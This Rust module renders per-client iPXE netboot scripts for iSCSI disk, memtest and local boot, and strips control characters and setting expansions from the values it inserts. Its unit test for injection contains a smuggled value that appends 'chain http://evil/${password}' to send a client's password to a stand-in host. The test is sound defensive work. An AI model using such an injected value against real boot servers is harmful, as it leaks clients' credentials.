//! Rendering one client's iPXE script. The script carries no secret: the client's own disk is
//! booted with the CHAP credentials iPXE already holds from its DHCP reply (`${username}`,
//! `${password}` are iPXE settings expanded on the client), and only this client's data goes in.

use std::fmt::Write as _;

/// What the client boots when the menu times out (or when there is no menu).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootChoice {
    /// This client's own iSCSI disk (`sanboot`, exactly as the DHCP root-path boot today).
    Disk,
    /// memtest86+ from the boot-file directory.
    Memtest,
    /// The local disk: BIOS `sanboot --drive 0x80`, UEFI `exit` back to the firmware.
    Local,
}

/// Everything the script needs about one client. Built by the service from that client's
/// registry entry only.
#[derive(Debug, Clone)]
pub struct ClientScript<'a> {
    /// `iscsi:<server>::<port>:<lun>:<iqn>` of this client's target.
    pub root_path: &'a str,
    /// Base URL of the boot files, e.g. `http://10.0.0.1:8080/files`.
    pub files_url: &'a str,
    /// The default entry.
    pub default: BootChoice,
    /// Seconds the menu waits; 0 boots the default without showing a menu.
    pub menu_timeout: u32,
}

fn label(c: &BootChoice) -> &'static str {
    match c {
        BootChoice::Disk => "disk",
        BootChoice::Memtest => "memtest",
        BootChoice::Local => "local",
    }
}

/// Strips anything that could end an iPXE line or start a setting expansion from a value we
/// put into the script (values come from our own config, this is belt and braces).
fn clean(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_control() && *c != '$' && *c != '{' && *c != '}')
        .collect()
}

/// Renders the script.
pub fn render(c: &ClientScript<'_>) -> String {
    let root = clean(c.root_path);
    let files = clean(c.files_url);
    let mut s = String::from("#!ipxe\n");
    if c.menu_timeout > 0 {
        let _ = writeln!(s, "menu isboot");
        let _ = writeln!(s, "item disk My disk");
        let _ = writeln!(s, "item memtest Memory test (memtest86+)");
        let _ = writeln!(s, "item local Local disk");
        let _ = writeln!(s, "item shell iPXE shell");
        let _ = writeln!(
            s,
            "choose --default {} --timeout {} target || goto {}",
            label(&c.default),
            u64::from(c.menu_timeout) * 1000,
            label(&c.default)
        );
        let _ = writeln!(s, "goto ${{target}}");
    } else {
        let _ = writeln!(s, "goto {}", label(&c.default));
    }
    let _ = writeln!(s, ":disk");
    let _ = writeln!(s, "sanboot {root} || goto failed");
    let _ = writeln!(s, ":memtest");
    let _ = writeln!(
        s,
        "iseq ${{platform}} efi && chain {files}/memtest/memtest86+x64.efi || chain {files}/memtest/memtest86+x64.bin || goto failed"
    );
    let _ = writeln!(s, ":local");
    let _ = writeln!(
        s,
        "iseq ${{platform}} efi && exit || sanboot --no-describe --drive 0x80 || goto failed"
    );
    let _ = writeln!(s, ":shell");
    let _ = writeln!(s, "shell");
    let _ = writeln!(s, ":failed");
    let _ = writeln!(s, "echo isboot: boot failed, dropping to the iPXE shell");
    let _ = writeln!(s, "shell");
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn client(default: BootChoice, menu_timeout: u32) -> ClientScript<'static> {
        ClientScript {
            root_path: "iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1",
            files_url: "http://10.0.0.1:8080/files",
            default,
            menu_timeout,
        }
    }

    #[test]
    fn no_menu_boots_disk_directly() {
        let s = render(&client(BootChoice::Disk, 0));
        assert!(s.starts_with("#!ipxe\ngoto disk\n"), "{s}");
        assert!(!s.contains("menu isboot"));
        assert!(s.contains("sanboot iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1 ||"));
    }

    #[test]
    fn menu_with_timeout_and_default() {
        let s = render(&client(BootChoice::Memtest, 5));
        assert!(s.contains("menu isboot\n"));
        assert!(s.contains("choose --default memtest --timeout 5000 target || goto memtest\n"));
        assert!(s.contains("chain http://10.0.0.1:8080/files/memtest/memtest86+x64.efi"));
        assert!(s.contains("chain http://10.0.0.1:8080/files/memtest/memtest86+x64.bin"));
        let s = render(&client(BootChoice::Local, 0));
        assert!(s.starts_with("#!ipxe\ngoto local\n"));
        assert!(s.contains("iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80"));
    }

    #[test]
    fn no_secret_and_no_injection() {
        let mut c = client(BootChoice::Disk, 0);
        c.root_path = "iscsi:10.0.0.1::::iqn.x:pc1\nchain http://evil/${password}";
        let s = render(&c);
        assert!(!s.contains("${password}"));
        assert!(!s.contains("${username}"));
        assert!(
            !s.lines().any(|l| l.starts_with("chain http://evil")),
            "{s}"
        );
    }
}
